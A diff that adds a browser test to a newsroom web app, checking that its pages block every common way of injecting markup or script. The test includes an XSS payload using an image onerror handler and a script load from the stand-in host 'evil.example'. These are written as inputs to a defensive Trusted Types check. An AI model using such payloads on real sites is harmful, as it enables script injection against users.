@@ -164,3 +164,29 @@ describe('the desk', () => {
     await desk.close();
   });
 });
+
+test.each(['/', '/desk'])('the page %s turns no string into markup or script', async (path) => {
+  const page = await (await browser.newContext()).newPage();
+  await page.goto(newsroom.url + path);
+  const refused = await page.evaluate<string[]>(`(() => {
+    const run = 'globalThis.pwned = 1';
+    const image = '<img src=x onerror="' + run + '">';
+    const script = () => document.body.appendChild(document.createElement('script'));
+    const attempts = {
+      innerHTML: () => { document.body.innerHTML = image; },
+      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', image),
+      write: () => document.write(image),
+      scriptText: () => { script().text = run; },
+      scriptSource: () => { script().src = 'https://evil.example/x.js'; },
+      frame: () => { document.createElement('iframe').srcdoc = image; },
+      timer: () => setTimeout(run),
+      policy: () => trustedTypes.createPolicy('another', { createHTML: (text) => text }),
+    };
+    const fails = (attempt) => { try { attempt(); return false; } catch { return true; } };
+    return Object.keys(attempts).filter((name) => fails(attempts[name]));
+  })()`);
+  const all = ['innerHTML', 'insertAdjacentHTML', 'write', 'scriptText', 'scriptSource', 'frame', 'timer'];
+  expect(refused).toEqual([...all, 'policy']);
+  expect(await page.evaluate('typeof globalThis.pwned')).toBe('undefined');
+  await page.context().close();
+});
